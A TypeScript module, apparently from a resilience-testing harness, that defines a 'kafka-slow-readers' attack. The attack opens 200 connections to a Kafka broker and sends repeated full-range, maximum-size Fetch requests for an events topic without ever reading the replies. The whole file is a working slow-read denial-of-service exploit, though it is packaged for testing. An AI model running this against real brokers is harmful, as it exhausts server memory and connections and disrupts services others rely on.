import { encodeRequest, fetch } from '@tally/kafka-wire';
import type { Attack } from '../attack.js';
import { holdConnections } from '../held-connections.js';
import { HOSTILE_ADDRESS, logOf, topicsOf } from '../kafka-attackers.js';

const CONNECTIONS = 200;
const ASKED_AT_ONCE = 5;
const MOST_BYTES = 2 ** 31 - 1;

export const kafkaSlowReaders: Attack = {
  name: 'kafka-slow-readers',
  story:
    'Two hundred readers fetch all partitions from the beginning, as much as there is, and read nothing.',
  door: 'log',
  async inflict({ target, over }) {
    const log = logOf(target);
    const [name, partitions] = [...(await topicsOf(log))].find(([each]) =>
      each.startsWith('events-'),
    ) ?? ['', 0];
    const request = Buffer.concat(
      encodeRequest(fetch, {
        maxWaitMs: 0,
        minBytes: 0,
        maxBytes: MOST_BYTES,
        sessionId: 0,
        sessionEpoch: -1,
        topics: [
          {
            name,
            partitions: Array.from({ length: partitions }, (_, partition) => ({
              partition,
              currentLeaderEpoch: -1,
              fetchOffset: 0n,
              maxBytes: MOST_BYTES,
            })),
          },
        ],
      }),
    );
    return holdConnections(
      {
        at: [log],
        from: HOSTILE_ADDRESS,
        connections: CONNECTIONS,
        reads: false,
        begin: (socket) => {
          for (let asked = 0; asked < ASKED_AT_ONCE; asked++) socket.write(request);
        },
      },
      over,
    );
  },
};
